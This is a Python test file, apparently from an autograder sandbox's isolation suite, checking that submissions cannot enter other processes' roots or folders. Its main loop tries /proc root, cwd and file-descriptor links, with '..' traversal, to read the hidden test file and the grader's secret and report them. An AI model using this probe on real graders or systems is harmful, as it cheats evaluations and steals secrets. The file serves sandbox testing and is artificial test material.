"""Promise: other processes' roots and folders cannot be entered.

Reads the hidden suite and the secret through /proc: the root and the folder of a process that it knows, of the first
one, of its parent.

alone: leaks suite, secret
here: score 40
"""

import os

from tell import tell

for number in (int("@VICTIM@"), 1, os.getppid(), "self"):
    for link in ("root", "cwd", "task/1/root", "map_files", "fd/3"):
        for path in ("@COURSE@/assignments/target/tests/test_hidden.py", "@COURSE@/.autograder/secret"):
            for up in ("", "/.." * 40):
                try:
                    with open(f"/proc/{number}/{link}{up}{path}") as file:
                        if number != "self" or link != "root":
                            tell(file.read())
                except OSError:
                    pass


def double(x):
    return 2 * x


def total(X):
    return -1.0
